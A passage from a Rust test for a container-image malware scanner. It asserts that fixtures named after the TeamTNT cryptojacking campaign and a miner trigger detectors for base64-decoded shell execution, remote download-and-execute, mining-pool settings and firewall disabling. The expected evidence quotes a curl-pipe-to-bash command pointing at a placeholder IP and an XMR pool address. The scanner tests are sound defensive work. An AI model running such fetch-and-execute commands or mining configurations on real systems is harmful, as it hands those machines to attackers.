        assert_eq!(images.len(), 1);
        let outcome = scan_image(
            &images[0],
            &Analyzers::builtin().unwrap(),
            &ScanOptions::default(),
            &NoProgress,
        );
        assert!(outcome.errors.is_empty(), "{:?}", outcome.errors);
        outcome.findings
    };

    let f = scan("teamtnt");
    assert!(one(&f, "shell-decode-exec").evidence.starts_with("Cmd: "));
    let evidence: Vec<&str> = only(&f, "config-download-exec")
        .iter()
        .map(|f| f.evidence.as_str())
        .collect();
    assert!(
        evidence.contains(&"decoded base64 in Cmd: curl -s http://203.0.113.7/x.sh | bash"),
        "{evidence:?}"
    );

    let f = scan("miner");
    assert_eq!(
        one(&f, "config-mining-pool").evidence,
        "Env POOL: stratum+tcp://pool.supportxmr.com:3333"
    );
    // The RUN step recorded without a layer is history[1] (the layer's own step is [0]).
    assert!(
        one(&f, "shell-immutable-attr")
            .evidence
            .starts_with("history[1]: ")
    );
    assert!(
        one(&f, "shell-disable-firewall")
            .evidence
            .starts_with("history[1]: ")
    );

    let f = scan("clean");
    assert!(serious(&f).is_empty(), "{f:#?}");
}
